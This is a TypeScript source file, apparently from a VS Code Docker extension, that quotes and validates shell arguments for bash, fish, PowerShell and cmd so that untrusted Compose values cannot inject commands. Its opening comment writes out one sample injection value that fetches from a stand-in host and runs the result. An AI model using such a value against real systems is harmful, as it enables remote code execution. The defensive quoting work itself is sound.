// A command line the user pastes into a terminal must run exactly the command it shows, whatever the engine's data
// holds: names, labels and options can come from an untrusted Compose file (`x'; iwr evil|iex; #`). Each shell has
// its own quoting, so the line is written for the shell it will be pasted into, and a value that shell cannot
// carry safely is refused with the reason instead of being written half-quoted.

export type ShellKind = 'posix' | 'fish' | 'powershell' | 'cmd';

export const SHELL_NAMES: Readonly<Record<ShellKind, string>> = { posix: 'sh/bash/zsh', fish: 'fish', powershell: 'PowerShell', cmd: 'cmd.exe' };

/** The kind of shell at a path such as VS Code's `env.shell`: /bin/bash, /usr/bin/fish, pwsh.exe, C:\Windows\System32\cmd.exe. */
export function shellKindOf(shellPath: string | undefined): ShellKind {
  const name = (shellPath ?? '').split(/[\\/]/).pop()?.toLowerCase().replace(/\.exe$/, '') ?? '';
  if (name === 'fish') return 'fish';
  if (name === 'pwsh' || name === 'powershell') return 'powershell';
  if (name === 'cmd') return 'cmd';
  return 'posix';
}

export class UnquotableValueError extends Error {
  constructor(readonly value: string, readonly shell: ShellKind, reason: string) {
    super(`${JSON.stringify(value)} cannot be written safely for ${SHELL_NAMES[shell]}: ${reason}. Copy the line for another shell (setting dockerNetworks.cliShell), or change the value.`);
  }
}

/** Words every shell here takes literally, unquoted. */
const PLAIN = /^[A-Za-z0-9_./:=@+,-]+$/;
/** PowerShell also ends single-quoted strings at typographic single quotes. */
const POWERSHELL_QUOTES = /['\u2018\u2019\u201a\u201b]/g;

function quotePosix(value: string): string {
  return `'${value.replace(/'/g, `'\\''`)}'`;
}

function quoteFish(value: string): string {
  return `'${value.replace(/[\\']/g, match => `\\${match}`)}'`;
}

function quotePowerShell(value: string): string {
  // Windows PowerShell 5.1 passes native arguments without escaping embedded double quotes or a trailing backslash.
  if (value.includes('"')) throw new UnquotableValueError(value, 'powershell', 'Windows PowerShell mangles double quotes in arguments to programs');
  if (/\\$/.test(value)) throw new UnquotableValueError(value, 'powershell', 'a trailing backslash would escape the closing quote in the argument PowerShell passes on');
  return `'${value.replace(POWERSHELL_QUOTES, match => match + match)}'`;
}

function quoteCmd(value: string): string {
  // Inside double quotes cmd takes & | < > ^ literally, but still expands %VAR% (and !VAR! with delayed expansion),
  // and a double quote or a line break cannot be carried at all.
  const bad = /["%!\r\n]/.exec(value);
  if (bad) throw new UnquotableValueError(value, 'cmd', `cmd.exe cannot carry ${JSON.stringify(bad[0])} in an argument`);
  // The program reads backslashes before a double quote as escapes (CommandLineToArgvW rules): double the trailing ones.
  return `"${value.replace(/(\\+)$/, '$1$1')}"`;
}

/** One argument as the shell must see it; throws UnquotableValueError when the shell cannot carry it. */
export function quoteArgument(value: string, shell: ShellKind): string {
  if (value.includes('\0')) throw new UnquotableValueError(value, shell, 'it contains a NUL character');
  if (PLAIN.test(value)) return value;
  switch (shell) {
    case 'posix': return quotePosix(value);
    case 'fish': return quoteFish(value);
    case 'powershell': return quotePowerShell(value);
    case 'cmd': return quoteCmd(value);
  }
}

/** The program and its arguments as one line for the shell. */
export function commandLine(argv: readonly string[], shell: ShellKind = 'posix'): string {
  return argv.map(arg => quoteArgument(arg, shell)).join(' ');
}
